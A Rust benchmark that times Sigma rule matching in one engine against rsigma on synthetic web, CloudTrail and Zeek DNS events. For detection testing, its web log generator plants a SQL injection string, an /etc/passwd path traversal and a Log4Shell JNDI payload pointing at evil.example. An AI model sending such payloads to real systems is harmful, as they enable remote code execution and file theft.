//! Events a second and core: our matching of the shared rules beside rsigma's, on the same events.
//!
//! `HAETAE_SHARED=… cargo run --release -p haetae-oracle --example sigma_speed [EVENTS]`
//!
//! Times are CPU time of this process. What neither engine does is outside: ours gets parsed
//! batches, rsigma gets parsed JSON objects with the fields that its rules name. "engine" is ours
//! with windows and episodes too, which rsigma's figure leaves out. Rounds alternate.

use haetae_detect::sigma::document::{Document, Rule};
use haetae_detect::{Engine, EngineOptions, RuleMatcher, RuleSet};
use haetae_event::{Dataset, EventBatch, Micros, TenantId};
use haetae_oracle::samples;
use haetae_parse::{Format, InputReader, ParseOptions};
use rand::seq::IndexedRandom;
use rand::{RngExt, SeedableRng};
use rand_chacha::ChaCha8Rng;
use rsigma_eval::event::JsonEvent;
use rustix::time::{ClockId, clock_gettime};
use serde_json::{Value, json};

const ROUNDS: usize = 3;

fn cpu_s() -> f64 {
    let time = clock_gettime(ClockId::ProcessCPUTime);
    time.tv_sec as f64 + time.tv_nsec as f64 / 1e9
}

/// The least CPU seconds of a few rounds, and what the work counted.
fn least(mut work: impl FnMut() -> usize) -> (f64, usize) {
    let mut best = (f64::MAX, 0);
    for _ in 0..ROUNDS {
        let start = cpu_s();
        let count = work();
        best = (best.0.min(cpu_s() - start), count);
    }
    best
}

struct Load {
    name: &'static str,
    format: &'static str,
    dataset: Dataset,
    lines: String,
    objects: Vec<Value>,
}

fn web(dice: &mut ChaCha8Rng, events: usize) -> Load {
    let agents: Vec<String> = (0..300)
        .map(|n| format!("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{n}.0.0.0 Safari/537.36"))
        .chain(["sqlmap/1.8", "curl/8.4", "Nikto/2.1"].map(String::from))
        .collect();
    let (mut lines, mut objects) = (String::new(), Vec::new());
    for n in 0..events {
        let uri = match dice.random_range(0..200u32) {
            0 => "/index.php?id=1%27%20UNION%20SELECT%201,2--".to_owned(),
            1 => "/..%2f..%2fetc/passwd".to_owned(),
            2 => "/?x=${jndi:ldap://evil.example/a}".to_owned(),
            3..=110 => format!(
                "/static/assets/chunk-{}.{:08x}.js",
                dice.random_range(0..400u32),
                dice.random_range(0..20u32)
            ),
            111..=150 => format!(
                "/product/{}?ref=main&color={}",
                dice.random_range(0..40_000u32),
                dice.random_range(0..12u32)
            ),
            _ => format!(
                "/search?q=%EA%B2%80%EC%83%89+{}&page={}",
                dice.random_range(0..60_000u32),
                dice.random_range(0..9u32)
            ),
        };
        let agent = agents.choose(dice).cloned().unwrap_or_default();
        let client = format!(
            "203.0.{}.{}",
            dice.random_range(0..80u8),
            dice.random_range(0..250u8)
        );
        let status = if dice.random_ratio(1, 30) { 404 } else { 200 };
        let line = format!(
            "{client} - - [01/Mar/2026:{:02}:{:02}:{:02} +0000] \"GET {uri} HTTP/1.1\" {status} {} \"https://shop.example/\" \"{agent}\"",
            n / 360_000 % 24,
            n / 6_000 % 60,
            n / 100 % 60,
            dice.random_range(200..90_000u32)
        );
        objects.push(json!({
            "c-ip": client, "src_ip": client, "cs-method": "GET", "sc-status": status, "cs-uri": uri, "c-uri": uri,
            "cs-uri-query": uri, "c-uri-query": uri, "cs-uri-stem": uri.split('?').next(), "cs-user-agent": agent,
            "c-useragent": agent, "cs-referer": "https://shop.example/", "cs-host": "shop.example", "raw": line,
        }));
        lines.push_str(&line);
        lines.push('\n');
    }
    Load {
        name: "access log",
        format: "combined",
        dataset: Dataset::Web,
        lines,
        objects,
    }
}

fn cloudtrail(dice: &mut ChaCha8Rng, events: usize) -> Load {
    const CALLS: [(&str, &str); 12] = [
        ("ec2.amazonaws.com", "DescribeInstances"),
        ("s3.amazonaws.com", "GetObject"),
        ("s3.amazonaws.com", "ListBuckets"),
        ("sts.amazonaws.com", "AssumeRole"),
        ("kms.amazonaws.com", "Decrypt"),
        ("logs.amazonaws.com", "CreateLogStream"),
        ("iam.amazonaws.com", "CreateAccessKey"),
        ("signin.amazonaws.com", "ConsoleLogin"),
        ("rds.amazonaws.com", "ModifyDBInstance"),
        ("ec2.amazonaws.com", "ModifyInstanceAttribute"),
        ("lambda.amazonaws.com", "UpdateFunctionConfiguration20150331v2"),
        ("cloudtrail.amazonaws.com", "LookupEvents"),
    ];
    let (mut lines, mut objects) = (String::new(), Vec::new());
    for n in 0..events {
        let at = if dice.random_ratio(9, 10) {
            dice.random_range(0..6usize)
        } else {
            dice.random_range(0..CALLS.len())
        };
        let (source, name) = CALLS[at];
        let user = dice.random_range(0..500u32);
        let object = json!({
            "eventVersion": "1.08",
            "userIdentity": {"type": "IAMUser", "principalId": format!("AIDA{user:08}"), "arn": format!("arn:aws:iam::123456789012:user/u{user}"),
                "accountId": "123456789012", "accessKeyId": format!("AKIA{user:016}"), "userName": format!("u{user}")},
            "eventTime": format!("2026-03-01T{:02}:{:02}:{:02}Z", n / 360_000 % 24, n / 6_000 % 60, n / 100 % 60),
            "eventSource": source, "eventName": name, "awsRegion": "ap-northeast-2",
            "sourceIPAddress": format!("203.0.113.{}", user % 250), "userAgent": "aws-cli/2.15 Python/3.11 Linux/6.1",
            "requestParameters": {"bucketName": format!("b{}", dice.random_range(0..90u32)), "key": format!("a/b/{}.json", dice.random_range(0..90_000u32)), "attribute": "userData"},
            "responseElements": null, "requestID": format!("R{n:015}"), "eventID": format!("00000000-0000-4000-8000-{n:012}"),
            "readOnly": true, "eventType": "AwsApiCall", "managementEvent": true, "recipientAccountId": "123456789012", "eventCategory": "Management",
        });
        lines.push_str(&object.to_string());
        lines.push('\n');
        objects.push(object);
    }
    Load {
        name: "CloudTrail",
        format: "cloudtrail",
        dataset: Dataset::CloudTrail,
        lines,
        objects,
    }
}

fn zeek(dice: &mut ChaCha8Rng, events: usize) -> Load {
    let (mut lines, mut objects) = (String::new(), Vec::new());
    for n in 0..events {
        let host = format!(
            "host{}.example{}",
            dice.random_range(0..9_000u32),
            dice.random_range(0..50u32)
        );
        let object = json!({
            "ts": 1_772_323_200.0 + n as f64 / 100.0, "uid": format!("C{n:017}"), "id.orig_h": format!("10.0.{}.{}", n % 200, n % 250),
            "id.orig_p": 40_000 + n % 20_000, "id.resp_h": "10.0.0.53", "id.resp_p": 53, "proto": "udp", "query": host, "qtype_name": "A",
            "rcode_name": "NOERROR", "answers": ["192.0.2.1", "192.0.2.2"], "rejected": false, "Z": 0,
        });
        lines.push_str(&object.to_string());
        lines.push('\n');
        objects.push(object);
    }
    Load {
        name: "Zeek DNS, JSON",
        format: "json",
        dataset: Dataset::App,
        lines,
        objects,
    }
}

fn batches(load: &Load, engine: &Engine) -> Vec<EventBatch> {
    let options = ParseOptions {
        columns: engine.columns(),
        arrival: Micros(1_772_323_200_000_000),
        dataset: Some(load.dataset),
        ..ParseOptions::default()
    };
    let format = Format::all().find(|format| format.as_str() == load.format);
    let mut reader = InputReader::open(load.lines.as_bytes(), format, &options);
    let mut batches = Vec::new();
    while let Ok(Some(parsed)) = reader.next_batch() {
        batches.extend(parsed.records.map(|records| EventBatch {
            tenant: TenantId::default(),
            dataset: load.dataset,
            records,
        }));
    }
    batches
}

fn main() {
    let events: usize = std::env::args()
        .nth(1)
        .and_then(|n| n.parse().ok())
        .unwrap_or(200_000);
    let Some(files) = samples::web_network_aws() else {
        return;
    };
    let mut rules = RuleSet::empty();
    for file in &files {
        rules.load_text(&file.name, &file.text);
    }
    let all: Vec<Rule> = rules
        .loaded()
        .iter()
        .filter_map(|loaded| match loaded.document.as_ref() {
            Document::Rule(rule) => Some(rule.clone()),
            Document::Correlation(..) => None,
        })
        .collect();
    let mut theirs = rsigma_eval::Engine::new();
    for file in &files {
        let collection = rsigma_parser::parse_sigma_yaml(&file.text).expect("rsigma reads it");
        theirs.add_collection(&collection).expect("rsigma takes it");
    }
    println!(
        "{} rules here, {} there; {events} events a load; CPU time, best of {ROUNDS}",
        all.len(),
        theirs.rule_count()
    );
    let mut dice = ChaCha8Rng::seed_from_u64(1);
    for load in [
        web(&mut dice, events),
        cloudtrail(&mut dice, events),
        zeek(&mut dice, events),
    ] {
        let engine = Engine::new(rules.clone(), EngineOptions::one_shot());
        let batches = batches(&load, &engine);
        let rows: usize = batches.iter().map(EventBatch::rows).sum();
        assert_eq!(rows, load.objects.len(), "every line is read");
        let (ours_s, ours_hits) = least(|| {
            let mut matcher = RuleMatcher::of_batches(load.dataset, &all);
            let mut hits = 0;
            batches
                .iter()
                .for_each(|batch| matcher.run(batch, |_, _| hits += 1));
            hits
        });
        let (engine_s, _) = least(|| {
            let mut engine = Engine::new(rules.clone(), EngineOptions::one_shot());
            batches.iter().for_each(|batch| drop(engine.observe(batch)));
            0
        });
        let (plain_s, their_hits) = least(|| {
            load.objects
                .iter()
                .map(|object| theirs.evaluate(&JsonEvent::borrow(object)).len())
                .sum()
        });
        theirs.set_bloom_prefilter(true);
        let (indexed_s, _) = least(|| {
            load.objects
                .iter()
                .map(|object| theirs.evaluate(&JsonEvent::borrow(object)).len())
                .sum()
        });
        theirs.set_bloom_prefilter(false);
        let parsed_s = (load.dataset == Dataset::App).then(|| {
            let (s, _) = least(|| {
                let read = |line| serde_json::from_str::<Value>(line).expect("written above");
                let hits = |line| theirs.evaluate(&JsonEvent::borrow(&read(line))).len();
                load.lines.lines().map(hits).sum()
            });
            s
        });
        let rate = |s: f64| rows as f64 / s / 1e3;
        println!(
            "{}: ours {:.0} k/s ({ours_hits} hits), engine {:.0} k/s; rsigma {:.0} k/s, with its Bloom filter {:.0} k/s ({their_hits} hits); {:.1} times the better",
            load.name,
            rate(ours_s),
            rate(engine_s),
            rate(plain_s),
            rate(indexed_s),
            plain_s.min(indexed_s) / ours_s
        );
        if let Some(s) = parsed_s {
            // Here ours reads JSON too: only names that were common have columns.
            println!(
                "  rsigma with reading the JSON: {:.0} k/s; {:.1} times",
                rate(s),
                s / ours_s
            );
        }
    }
}
